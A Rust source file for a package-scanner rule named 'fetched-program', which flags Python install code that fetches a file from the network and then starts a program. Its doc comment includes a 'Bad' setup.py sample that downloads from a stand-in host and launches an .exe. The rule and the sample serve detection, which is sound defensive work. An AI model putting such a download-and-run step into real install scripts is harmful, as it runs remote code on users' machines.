//! ## What it detects
//!
//! Code that runs unasked, writes what it got from the network to a file, and starts a program or script by its path.
//!
//! ## Why it is bad
//!
//! The path that is started is that of the file, whatever was done to it in between: moved, unpacked, renamed.
//!
//! ## Innocent lookalikes
//!
//! Installers of drivers do it when the user calls them.
//!
//! ## Bad
//!
//! ```python setup.py
//! import os, requests
//! open('C:/a/x.zip', 'wb').write(requests.get('http://x.example.invalid/a').content)
//! os.startfile('C:/b/y.exe')
//! ```
//!
//! ## Good
//!
//! ```python setup.py
//! import os, requests
//! open('C:/a/x.zip', 'wb').write(requests.get('http://x.example.invalid/a').content)
//! print('done')
//! ```

use fondaco_python::{Api, Call, Taint};
use fondaco_verdict::{Behaviour, Confidence, RuleId, Severity, Trigger};

use crate::{Hits, Package, Rule};

pub(crate) const RULE: Rule = Rule {
    id: RuleId::new("fetched-program"),
    title: "fetches a program and starts one",
    severity: Severity::Critical,
    confidence: Confidence::Medium,
    behaviour: Some(Behaviour::IngressTransfer),
    weight: 1.8,
    check,
};

fn check(package: &Package<'_>, hits: &mut Hits) {
    for unit in package.units() {
        let unasked = |call: &&Call| call.trigger.is_some_and(Trigger::is_unasked);
        let fetches = unit.calls.iter().filter(unasked).any(|call| {
            call.callee.ends_with("urlretrieve")
                || call.callee == "wget.download"
                || call.api == Some(Api::FileWrite) && call.taint().has(Taint::NETWORK)
        });
        let starts = |call: &&Call| {
            let text = || call.texts().into_iter().any(is_program);
            call.api == Some(Api::Shell) && (call.callee == "os.startfile" || text())
        };
        for call in unit.calls.iter().filter(unasked).filter(starts).filter(|_| fetches) {
            hits.call(unit, call, "starts a program in code that has fetched a file");
        }
    }
}

/// A program or script by its path.
fn is_program(text: &str) -> bool {
    const ENDS: [&str; 9] = [".exe", ".bat", ".cmd", ".ps1", ".vbs", ".msi", ".scr", ".pyw", ".sh"];
    let text = text.trim().to_ascii_lowercase();
    text.len() < 4096 && (ENDS.iter().any(|end| text.ends_with(end)) || text.starts_with("./") || text.starts_with("chmod +x"))
}
